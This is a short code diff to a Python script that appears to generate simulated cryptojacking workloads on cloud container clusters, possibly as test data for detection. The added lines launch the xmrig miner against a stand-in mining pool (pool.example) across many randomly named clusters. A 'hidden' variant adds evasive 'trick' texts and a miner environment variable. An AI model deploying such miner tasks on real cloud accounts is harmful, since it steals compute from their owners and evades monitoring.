@@ -104,7 +104,7 @@ def company(maker):
 
 
 def attack(maker, image, prefix):
-    definition = maker.register(f"{prefix}kwvjtr", image, 16384, 32768)
+    definition = maker.register(f"{prefix}kwvjtr", image, 16384, 32768, command=["./xmrig", "-o", "stratum+tcp://pool.example:3333"])
     for number in range(CLUSTERS):
         name = f"{prefix}xkvw{number}jqzt"
         maker.run(maker.cluster(name), f"{name}-service", definition, desired=2, tasks=2)
@@ -113,7 +113,7 @@ def attack(maker, image, prefix):
 def hidden(maker):
     """The same, with a trick in every text that it may choose, one cluster for each of its user agents."""
     tags = [{"key": f"t{number}{text[:100]}", "value": text} for number, text in enumerate(TEXTS)]
-    command = {"command": ["sh", "-c", *TEXTS], "environment": [{"name": FORMULA, "value": "x"}, {"name": TEXTS[0], "value": "y"}]}
+    command = {"command": ["sh", "-c", *TEXTS], "environment": [{"name": name, "value": "x"} for name in ("XMRIG_URL", FORMULA, TEXTS[0])]}
     for number, agent in enumerate(AGENTS):
         own = maker.called(agent)
         definition = own.register(f"wvqkz{number}jx", f"docker.io/{TEXTS[number]}/worker:latest", 16384, 32768, tags, **command)
